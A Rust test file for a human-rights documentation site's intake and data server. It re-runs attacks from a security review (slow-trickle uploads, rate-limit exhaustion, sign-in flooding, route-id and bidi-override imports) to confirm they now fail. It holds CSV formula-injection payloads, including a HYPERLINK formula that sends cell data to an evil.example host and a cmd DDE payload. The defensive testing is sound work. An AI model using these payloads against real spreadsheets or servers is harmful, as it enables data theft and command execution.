//! The attacks of the third independent review (`security-review-3.md`:
//! N1–N7), each run against the real server on loopback, bounded in count
//! and time. Every one of them succeeded against the code the review read.

use crate::support::clients::{addr, audit_entries, client_from, connect_from, login_from};
use crate::support::intake::{SITE, form_token, reply_form, server, submit_with};
use crate::support::staff::{PASSWORD, now};
use crate::support::{Server, parse_csv, run};
use reqwest::StatusCode;
use reqwest::multipart::{Form, Part};
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt;

/// An upload from 127.0.0.`n` that sends its form as far as a file's first
/// bytes, then 400 bytes a second until `stop` (review 3's `slow_upload`).
async fn trickle(s: &Server, n: u8, stop: Instant) {
    let (token, cookie) = form_token(s, &client_from(n), "/en/submit").await;
    let head = format!(
        "--X\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n{token}\r\n\
         --X\r\nContent-Disposition: form-data; name=\"site\"\r\n\r\n{SITE}\r\n\
         --X\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.bin\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n"
    );
    let mut socket = connect_from(n, addr(s)).await;
    let request = format!(
        "POST /en/submit HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n\
         Content-Type: multipart/form-data; boundary=X\r\nContent-Length: {}\r\n\r\n{head}",
        100 << 20
    );
    if socket.write_all(request.as_bytes()).await.is_err() {
        return;
    }
    while Instant::now() < stop {
        if socket.write_all(&[0u8; 400]).await.is_err() {
            break;
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// A contact message from `client`.
async fn contact(s: &Server, client: &reqwest::Client, what: &str) -> (StatusCode, String) {
    let (token, cookie) = form_token(s, client, "/en/contact").await;
    let form = Form::new().text("token", token).text("what", what.to_owned());
    let r = client.post(s.url("/en/contact")).header("cookie", cookie).multipart(form).send().await.unwrap();
    (r.status(), r.text().await.unwrap())
}

/// N1: sixteen uploads trickling 400 bytes a second held every upload
/// place, and every submission, contact message and follow-up, text-only
/// ones too, waited for one: the intake was shut for as long as they ran.
/// Here 16 trickle from 8 addresses and 16 more from one client behind a
/// trusted proxy (16 free form tokens) while a real source sends a text
/// submission, a contact message, a follow-up with a file, and a 20 MB file.
#[tokio::test]
async fn n1_trickling_uploads_do_not_close_the_door() {
    let (s, _, _conf) = server("trusted_proxies = [\"127.0.0.60\"]\n", None);
    let s = std::sync::Arc::new(s);
    let stop = Instant::now() + Duration::from_secs(90);
    let mut slow = tokio::task::JoinSet::new();
    for i in 0..16u8 {
        for n in [40 + i / 2, 60] {
            let s = s.clone();
            slow.spawn(async move { trickle(&s, n, stop).await });
        }
    }
    tokio::time::sleep(Duration::from_secs(3)).await;

    let source = client_from(99);
    let fields = [("site", SITE), ("what", "a real source"), ("consent", "anonymised")];
    let text = submit_with(&s, &source, &fields, vec![]).await;
    assert_eq!(text.status, StatusCode::OK, "a text submission: {}", text.html);
    let receipt = text.receipt();
    let (status, html) = contact(&s, &source, "a question from a relative").await;
    assert_eq!(status, StatusCode::OK, "a contact message: {html}");
    let (form, cookie) = reply_form(&s, &source, &receipt).await;
    let form = form
        .text("message", "more details")
        .part("files", Part::bytes(b"a list".to_vec()).file_name("list.txt").mime_str("text/plain").unwrap());
    let r = source.post(s.url("/en/receipt/reply")).header("cookie", cookie).multipart(form).send().await.unwrap();
    let (status, html) = (r.status(), r.text().await.unwrap());
    assert!(status == StatusCode::OK && html.contains("were received"), "a follow-up with a file: {status} {html}");
    let big = vec![("video.bin".to_owned(), "application/octet-stream".to_owned(), vec![7u8; 20 << 20])];
    let file = submit_with(&s, &source, &fields, big).await;
    assert_eq!(file.status, StatusCode::OK, "a 20 MB file: {}", file.html);
    file.receipt();
    slow.abort_all();
    while slow.join_next().await.is_some() {}
}

/// N3: receipt checks counted against everyone's hourly allowance before
/// the derivation ran, and behind a proxy one client with many free form
/// tokens spent it: genuine checks were refused for the rest of the hour.
/// Now each client has its own allowance (lowered here to 3) and there is
/// none for everyone: 16 tokens spend theirs, and the real source's check
/// still opens its replies. (The global setting is ignored, with a warning.)
#[tokio::test]
async fn n3_receipt_checks_cannot_be_closed_for_everyone() {
    let config = "trusted_proxies = [\"127.0.0.1\"]\nintake_receipt_checks_per_hour = 3\n\
                  intake_receipt_checks_per_hour_global = 20\n";
    let (s, _, _conf) = server(config, None);
    let fields = [("site", SITE), ("what", "a real source"), ("consent", "anonymised")];
    let sent = submit_with(&s, &s.client, &fields, vec![]).await;
    let mine = sent.receipt();
    let mut statuses = std::collections::BTreeMap::new();
    for t in 0..16u64 {
        let (token, cookie) = form_token(&s, &s.client, "/en/receipt").await;
        for k in 0..4u64 {
            let wrong = format!("{:016}", 1_000_000_000_000_000 + t * 10 + k);
            let form = [("token", token.as_str()), ("receipt", wrong.as_str())];
            let r = s.client.post(s.url("/en/receipt")).header("cookie", &cookie).form(&form).send().await.unwrap();
            *statuses.entry(r.status().as_u16()).or_insert(0) += 1;
        }
    }
    assert_eq!(statuses, [(404, 48), (429, 16)].into(), "each token has its own three");
    let (status, page) = crate::support::intake::check_receipt(&s, &s.client, &mine).await;
    assert_eq!(status, StatusCode::OK, "the real source still reads its replies: {page}");
}

/// N4: 150 threads from 5 addresses guessing random names kept both hash
/// permits busy (the real administrator got "busy" half the time), and
/// every guess was an audit entry. Now a client has one hash in flight, one
/// permit is kept for clients without failures, and names that are no
/// account are summarised, one entry a minute.
#[tokio::test]
async fn n4_sign_in_is_fair_and_guessed_names_do_not_fill_the_audit_log() {
    let dir = tempfile::tempdir().unwrap();
    let secret = crate::support::staff::add_user(dir.path(), "olena", "admin");
    let s = std::sync::Arc::new(Server::start_with(dir, &[]));
    let before = audit_entries(s.data_dir());
    // Long enough for the guessers to hold every permit they can get many
    // times over (each guess is a 64 MiB hash), short enough for a test.
    let stop = Instant::now() + Duration::from_secs(8);
    let mut attackers = tokio::task::JoinSet::new();
    for i in 0..150u32 {
        let s = s.clone();
        attackers.spawn(async move {
            let client = client_from(10 + (i % 5) as u8);
            let mut statuses = Vec::new();
            let mut k = 0;
            while Instant::now() < stop {
                k += 1;
                statuses.push(login_from(&s, &client, &format!("user{i}x{k}"), "guess", "000000").await);
            }
            statuses
        });
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    let admin = login_from(&s, &client_from(2), "olena", PASSWORD, &secret.code_at(now())).await;
    assert_eq!(admin, StatusCode::SEE_OTHER, "the administrator signs in during the attack");
    let mut tries = 0;
    while let Some(done) = attackers.join_next().await {
        let statuses = done.unwrap();
        assert!(statuses.iter().all(|s| s.is_client_error()), "{statuses:?}");
        tries += statuses.len();
    }
    // Give the entries written beside the answers a moment to land.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let added = audit_entries(s.data_dir()) - before;
    assert!(tries > 150, "the attack ran ({tries} tries)");
    // The sign-in, and a summary of unknown names for each minute the attack touched.
    assert!(added <= 3, "{added} audit entries for {tries} guesses");
}

/// The cells of every CSV file of the dataset, and of the bundle's copies.
async fn every_csv_cell(s: &Server) -> Vec<(String, String)> {
    let mut cells = Vec::new();
    for table in ["sites", "sources", "findings", "testimonies", "transfers"] {
        let text = s.page(&format!("/data/{table}.csv")).await;
        for row in parse_csv(&text).into_iter().skip(1) {
            cells.extend(row.into_iter().map(|c| (format!("{table}.csv"), c)));
        }
    }
    cells
}

/// N2: text that a spreadsheet runs (`=HYPERLINK(…)`, `-2+3+cmd|…`, `@…`,
/// also after a tab) was written as it was into every CSV file and the
/// bundle, for the journalist or court clerk who opens it. Now every such
/// cell starts with an apostrophe, and the JSON API keeps the exact value.
#[tokio::test]
async fn n2_no_formula_reaches_a_spreadsheet() {
    let s = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let f = |v: &str| format!("\"{}\"", v.replace('"', "\"\""));
    let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let files = [
        (
            "sites",
            format!(
                "id,name_en,name_uk,name_ru,aliases,facility_type,settlement,region,country,occupied_territory,lat,lon,coord_precision,operator,reported_from,reported_to,abuse_types,source_urls,notes,settlement_uk,region_uk,notes_uk\n\
                 csv-inj,{},+x,@ru,=alias;-alias,unknown,{},@evil(1),RU,false,47.1,38.1,settlement,=1+1,2022-04,,beating,,\"\t=1+1\",-s,+r,@n\n",
                f(link),
                f("-2+3+cmd|' /C calc'!A0")
            ),
        ),
        (
            "sources",
            format!(
                "id,kind,title,publisher,published_on,url,language,reliability,credibility,independence_group,notes,notes_uk\n\
                 src-inj,media,{},@publisher,2024-01-01,https://example.org/inj,en,C,3,inj-group,+notes,-notes\n",
                f(link)
            ),
        ),
        ("findings", "source_id,site_id,abuse_types,period_from,period_to,note,note_uk\nsrc-inj,csv-inj,beating,,,=1+2,@x\n".into()),
        (
            "testimonies",
            "id,source_id,witness_role,summary_en,abuse_types,stays,summary_uk\nt-inj,src-inj,former_prisoner,-1+1,beating,csv-inj@..,=1\n".into(),
        ),
    ];
    for (kind, text) in files {
        let path = dir.path().join(format!("{kind}.csv"));
        std::fs::write(&path, text).unwrap();
        let out = run(&["--data-dir", s.data_dir().to_str().unwrap(), "import", kind, path.to_str().unwrap()]);
        assert!(out.status.success(), "{kind}: {}", String::from_utf8_lossy(&out.stderr));
    }
    // Wait until the server has the new records.
    for _ in 0..100 {
        if s.page("/data/sites.csv").await.contains("csv-inj") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let runs = |c: &str| {
        let t = c.trim_start_matches([' ', '\t', '\r', '\n']);
        c.starts_with(['\t', '\r', '\n']) || (t.starts_with(['=', '+', '-', '@']) && t.parse::<f64>().is_err())
    };
    let cells = every_csv_cell(&s).await;
    let neutralised = cells.iter().filter(|(_, c)| c.starts_with('\'')).count();
    assert!(neutralised >= 15, "the payloads are there, written as text ({neutralised})");
    for (file, cell) in &cells {
        assert!(!runs(cell), "{file}: {cell:?} would run in a spreadsheet");
    }
    // The bundle holds the same files, byte for byte.
    let bundle = s.get("/data/inferno-dataset.zip").await.bytes().await.unwrap();
    let sites = s.get("/data/sites.csv").await.bytes().await.unwrap();
    let mut zip = zip_entries(&bundle);
    assert_eq!(zip.remove("inferno-dataset/sites.csv").as_deref(), Some(&sites[..]));
    // The API keeps the exact value.
    let api: serde_json::Value = serde_json::from_str(&s.page("/api/v1/sites/csv-inj").await).unwrap();
    assert_eq!(api["name"]["en"], link, "{api}");
}

/// The entries of a ZIP file, read with Python's zipfile (the reader the
/// downloads tests use), by name.
fn zip_entries(bytes: &[u8]) -> std::collections::HashMap<String, Vec<u8>> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bundle.zip");
    std::fs::write(&path, bytes).unwrap();
    let out = std::process::Command::new("python3")
        .args([
            "-c",
            "import base64, json, sys, zipfile\nz = zipfile.ZipFile(sys.argv[1])\n\
             print(json.dumps({n: base64.b64encode(z.read(n)).decode() for n in z.namelist()}))",
            path.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let map: std::collections::HashMap<String, String> = serde_json::from_slice(&out.stdout).unwrap();
    map.into_iter().map(|(k, v)| (k, base64_decode(&v))).collect()
}

fn base64_decode(s: &str) -> Vec<u8> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0);
    for c in s.bytes().filter(|c| *c != b'=') {
        acc = (acc << 6) | ALPHABET.iter().position(|a| *a == c).unwrap() as u32;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    out
}

/// N5 and N7: a page whose id is a route's (`submit`, `sites`, …) was
/// accepted, listed twice in the sitemap and, for the intake forms, copied
/// into the static mirror; names held bidirectional overrides. Both are
/// refused now, with a message naming the field and the reason.
#[tokio::test]
async fn n5_n7_route_ids_and_hidden_characters_are_refused() {
    let s = Server::start();
    let dir = tempfile::tempdir().unwrap();
    let import = |kind: &str, text: String| {
        let path = dir.path().join(format!("{kind}.csv"));
        std::fs::write(&path, text).unwrap();
        run(&["--data-dir", s.data_dir().to_str().unwrap(), "import", kind, path.to_str().unwrap()])
    };
    for id in ["submit", "receipt", "contact", "sites", "search", "data", "news"] {
        let out = import("pages", format!("id,title_en,body_en\n{id},A page,Text.\n"));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success() && err.contains("the address of a part of the site"), "{id}: {err}");
    }
    let sitemap = s.page("/sitemaps/1.xml").await;
    let locs: Vec<&str> = sitemap.split("<loc>").skip(1).map(|l| l.split('<').next().unwrap()).collect();
    let unique: std::collections::HashSet<&&str> = locs.iter().collect();
    assert_eq!(unique.len(), locs.len(), "every address once");
    assert!(!locs.iter().any(|l| l.ends_with("/submit") || l.ends_with("/receipt")), "no form in the sitemap");

    let out = import(
        "sites",
        "id,name_en,name_uk,aliases,facility_type,settlement,region,country,occupied_territory,lat,lon,coord_precision,operator,reported_from,reported_to,abuse_types,source_urls,notes\n\
         bidi,Site,Місце,\u{202E}evil,unknown,A,B,RU,false,47.1,38.1,settlement,FSIN,2022-04,,beating,,A site.\n"
            .into(),
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && err.contains("aliases") && err.contains("U+202E"), "{err}");
}

/// The values a back-office form holds as it is served: text inputs and
/// hidden ones, textareas, the selected option of each select and the
/// ticked checkboxes.
fn form_values(html: &str) -> Vec<(String, String)> {
    let unescape = |v: &str| v.replace("&#34;", "\"").replace("&#39;", "'").replace("&#60;", "<").replace("&#62;", ">");
    let attr = |tag: &str, name: &str| {
        tag.split(&format!(" {name}=\"")).nth(1).map(|v| unescape(v.split('"').next().unwrap_or("")))
    };
    let form = html.split("<form class=\"record\"").nth(1).expect("a record form").split("</form>").next().unwrap();
    let mut out = Vec::new();
    for input in form.split("<input").skip(1).map(|t| t.split('>').next().unwrap()) {
        let (Some(name), value) = (attr(input, "name"), attr(input, "value").unwrap_or_default()) else { continue };
        if !input.contains("type=\"checkbox\"") || input.contains(" checked") {
            out.push((name, value));
        }
    }
    for area in form.split("<textarea").skip(1) {
        let name = attr(area.split('>').next().unwrap(), "name").unwrap();
        let value = area.split_once('>').unwrap().1.split("</textarea>").next().unwrap();
        out.push((name, unescape(value)));
    }
    for select in form.split("<select").skip(1) {
        let name = attr(select.split('>').next().unwrap(), "name").unwrap();
        let options = select.split("</select>").next().unwrap();
        if let Some(o) = options.split("<option").find(|o| o.split('>').next().unwrap().contains(" selected")) {
            out.push((name, attr(o, "value").unwrap_or_default()));
        }
    }
    out
}

/// A source's words stay in the vault unless a person writes them
/// elsewhere. A testimony draft made from a submission used to copy what the
/// sender wrote into its summary, saved as it was by "Save" and kept from
/// then on in the record's revisions, outside the vault. Here a canary is
/// sent through every intake form (submission, contact message, follow-up);
/// drafts of every kind are made from it, each form served with none of it
/// in any field but with the sender's words beside it, read-only; they are
/// saved, published and withdrawn; and the canary is nowhere: not in the
/// catalog database (its revisions and audit log included), the search, the
/// downloads or a static export.
#[tokio::test]
async fn a_source_s_words_stay_in_the_vault() {
    const CANARY: &str = "kanareyka7q";
    let (s, secret, _conf) = server("", None);
    let fields = [
        ("site", SITE),
        ("what", &format!("Guards beat us every night, {CANARY}-what.") as &str),
        ("when", &format!("spring 2023 {CANARY}-when")),
        ("place", &format!("block 4 {CANARY}-place")),
        ("contact", &format!("{CANARY}-contact@example.org")),
        ("relation", "former_prisoner"),
        ("consent", "anonymised"),
    ];
    let sent = submit_with(&s, &s.client, &fields, vec![]).await;
    assert_eq!(sent.status, StatusCode::OK, "{}", sent.html);
    let receipt = sent.receipt();
    assert_eq!(contact(&s, &s.client, &format!("{CANARY}-contact-message")).await.0, StatusCode::OK);
    let (form, cookie) = reply_form(&s, &s.client, &receipt).await;
    let r = s
        .client
        .post(s.url("/en/receipt/reply"))
        .header("cookie", cookie)
        .multipart(form.text("message", format!("{CANARY}-follow-up")))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);

    let admin = crate::support::staff::session(&s, "olena", &secret).await;
    let html = crate::support::staff::get_as(&s, "/staff?lang=en", &admin).await.text().await.unwrap();
    let csrf = crate::support::staff::csrf_of(&html);
    let ids = crate::support::intake::queue(&s, &admin).await;
    let mut made = Vec::new();
    for id in &ids {
        for kind in ["sources", "findings", "testimonies"] {
            let path = format!("/staff/{kind}/new?lang=en&intake={id}");
            let r = crate::support::staff::get_as(&s, &path, &admin).await;
            if r.status() == StatusCode::CONFLICT {
                continue; // a contact message gives no consent to publish a testimony
            }
            let page = r.text().await.unwrap();
            let mut values = form_values(&page);
            for (name, value) in &values {
                assert!(!value.contains(CANARY), "{path}: the field {name} holds the sender's words: {value:?}");
            }
            if page.contains("-what") {
                assert!(
                    page.contains("class=\"sender-words\""),
                    "{path}: the sender's words are shown beside the form"
                );
            }
            let mut set = |name: &str, value: &str| {
                values.retain(|(n, _)| n != name);
                values.push((name.to_owned(), value.to_owned()));
            };
            let n = made.len();
            match kind {
                "sources" => {
                    set("title", "A released prisoner's account, anonymised");
                    set("published_on", "2026-12-01");
                    set("url", &format!("https://example.org/account-{n}"));
                    set("independence_group", &format!("account-{n}"));
                }
                "findings" => {
                    // The source made from the same submission just before.
                    let source =
                        made.iter().rev().find(|(k, _)| *k == "sources").map(|(_, id): &(&str, String)| id.clone());
                    set("source_id", &source.expect("a source made first"));
                    // A contact message names no site.
                    set("site_id", SITE);
                    set("abuse_types", "beating");
                }
                _ => {
                    set("summary_en", "A former prisoner reports nightly beatings.");
                    set("abuse_types", "beating");
                }
            }
            set("csrf", &csrf);
            let form: Vec<(&str, &str)> = values.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let r = crate::support::staff::post_as(&s, &format!("/staff/{kind}/new"), &admin, &form).await;
            let status = r.status();
            assert_eq!(status, StatusCode::SEE_OTHER, "{kind}: {}", r.text().await.unwrap());
            let key = match kind {
                "findings" => format!("{}~{SITE}", values.iter().find(|(k, _)| k == "source_id").unwrap().1),
                _ => values.iter().find(|(k, _)| k == "id").unwrap().1.clone(),
            };
            made.push((kind, key));
        }
    }
    let testimonies: Vec<&String> = made.iter().filter(|(k, _)| *k == "testimonies").map(|(_, id)| id).collect();
    assert!(!testimonies.is_empty() && made.len() >= 5, "{made:?}");
    for id in &testimonies {
        let publish = [("csrf", csrf.as_str()), ("lang", "en")];
        let r = crate::support::staff::post_as(&s, &format!("/staff/testimonies/{id}/publish"), &admin, &publish).await;
        assert!(r.status().is_redirection(), "publish: {}", r.status());
    }
    // Published: the search, the downloads and a static export have them now.
    tokio::time::sleep(Duration::from_millis(600)).await;
    let search = s.page(&format!("/en/search?q={CANARY}")).await;
    assert!(search.contains("Try another spelling"), "the search finds nothing of it");
    let mut public = String::new();
    for file in ["sites.csv", "sources.csv", "findings.csv", "testimonies.csv", "sites.geojson"] {
        public.push_str(&s.page(&format!("/data/{file}")).await);
    }
    public.push_str(&s.page("/api/v1/testimonies").await);
    assert!(public.contains("A former prisoner reports nightly beatings."), "the records are public");
    assert!(!public.contains(CANARY), "the downloads hold none of it");
    let mirror = tempfile::tempdir().unwrap();
    crate::support::export(&s, &mirror.path().join("out"), &[]);
    for file in crate::support::intake::all_files(&mirror.path().join("out")) {
        assert!(!crate::support::contains(&std::fs::read(&file).unwrap(), CANARY), "{}", file.display());
    }
    for id in &testimonies {
        let withdraw =
            [("csrf", csrf.as_str()), ("lang", "en"), ("public_note", "Withdrawn for review."), ("confirm", "yes")];
        let r =
            crate::support::staff::post_as(&s, &format!("/staff/testimonies/{id}/unpublish"), &admin, &withdraw).await;
        assert!(r.status().is_redirection(), "withdraw: {}", r.status());
    }
    assert_eq!(crate::support::canary_in_catalog(s.data_dir(), CANARY).await, Vec::<String>::new());
}
